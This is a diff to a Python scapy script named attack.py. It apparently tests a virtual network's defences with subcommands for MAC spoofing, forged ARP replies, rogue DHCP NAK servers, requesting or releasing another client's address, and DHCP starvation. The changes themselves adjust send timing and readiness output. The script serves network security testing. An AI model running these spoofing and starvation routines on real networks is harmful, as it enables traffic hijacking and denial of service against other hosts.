@@ -1,5 +1,5 @@
 #!/usr/bin/python3
-"""Attacks and unusual clients, one subcommand each. Prints "ready" before its first frame and "sent N" after its last.
+"""Attacks and unusual clients, one subcommand each. Prints "ready" before its first frame and "sent N" once it did its part.
 
     attack.py mac-spoof LINK VICTIM-MAC             frames with another VM's source MAC
     attack.py arp LINK TARGET-MAC CLAIMED-ADDRESS   ARP replies that claim an address
@@ -39,16 +39,17 @@ args = sys.argv[3:]
 mac = get_if_hwaddr(link)
 s = conf.L2socket(iface=link)
 BROADCAST = "ff:ff:ff:ff:ff:ff"
-ROUNDS = 10
 
 
-def send(*frames, rounds=ROUNDS):
+def send(*frames, rounds=10, more=190):
+    """Sends the frames ten times a second; tells after `rounds` times, and goes on for `more`."""
     print("ready", flush=True)
-    for _ in range(rounds):
+    for i in range(rounds + more):
         for frame in frames:
             s.send(frame)
+        if i + 1 == rounds:
+            print("sent", rounds * len(frames), flush=True)
         time.sleep(0.1)
-    print("sent", rounds * len(frames), flush=True)
 
 
 def client(chaddr, options, source="0.0.0.0", destination="255.255.255.255", ciaddr="0.0.0.0", to=BROADCAST):
@@ -92,7 +93,6 @@ def message_type(frame):
 
 def answer_all(answer):
     """Gives every DHCP message of a client to `answer` and sends what comes back."""
-    print("ready", flush=True)
 
     def hear(frame):
         if DHCP not in frame or frame[BOOTP].op != 1 or frame.src == mac:
@@ -102,7 +102,7 @@ def answer_all(answer):
             s.send(reply)
             print("answered", message_type(reply), flush=True)
 
-    sniff(iface=link, prn=hear, store=False)
+    sniff(iface=link, prn=hear, store=False, started_callback=lambda: print("ready", flush=True))
 
 
 def identifier(chaddr):
@@ -124,10 +124,10 @@ elif name == "nak":
     answer_all(lambda frame, kind: server(frame, "nak", "0.0.0.0", args[0]) if kind == 3 else None)
 elif name == "request-as":
     options = [("message-type", "request"), identifier(args[0]), ("requested_addr", args[1])]
-    send(client(args[0], options), rounds=3)
+    send(client(args[0], options), rounds=3, more=0)
 elif name == "release-as":
     options = [("message-type", "release"), ("server_id", args[2]), identifier(args[0])]
-    send(client(args[0], options, source=args[1], destination=args[2], ciaddr=args[1]), rounds=3)
+    send(client(args[0], options, source=args[1], destination=args[2], ciaddr=args[1]), rounds=3, more=0)
 elif name == "starve-identifiers":
     print("ready", flush=True)
     for i in range(int(args[0])):
